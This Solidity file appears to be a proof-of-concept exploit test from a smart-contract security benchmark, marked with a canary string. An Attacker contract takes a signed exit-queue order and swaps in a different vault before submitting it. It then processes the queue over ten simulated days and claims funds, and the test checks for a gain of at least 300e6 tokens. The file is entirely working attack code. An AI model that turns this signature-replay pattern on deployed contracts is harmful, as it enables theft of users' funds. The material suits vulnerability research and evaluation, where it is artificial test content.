// SPDX-License-Identifier: GPL-2.0-or-later
pragma solidity 0.8.30;

// assay-canary-8c5098a9-c61a-4b31-8860-b5736bf60939
import "../Base.sol";

contract Attacker {
    function bring(IExitQueue exits, IExitQueue.Order memory o, bytes memory signature, IVault vault) external {
        o.vault = vault;
        try exits.requestSigned(o, signature) {} catch {}
    }

    function process(IExitQueue exits, IVault vault) external {
        exits.process(vault, 1);
    }

    function take(IExitQueue exits, IERC20 asset) external {
        try exits.claim(asset, address(this)) {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;
    IExitQueue.Order private seen;
    bytes private signature;

    function start() internal override {
        rock.lend(0, 5_000e6, 10);
        other = new Attacker();
        seen = order(ridge, 50_000e12, 40_000e6, 50e6, 7);
        signature = signed(seen);
    }

    function exploit() public {
        other.bring(exits, seen, signature, ridge);
        for (uint256 i = 0; i < 10; i++) {
            vm.warp(block.timestamp + 1 days);
            other.process(exits, ridge);
        }
        other.take(exits, usd);
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 300e6, "no gain");
    }

    function target() public view override returns (address) {
        return address(exits);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
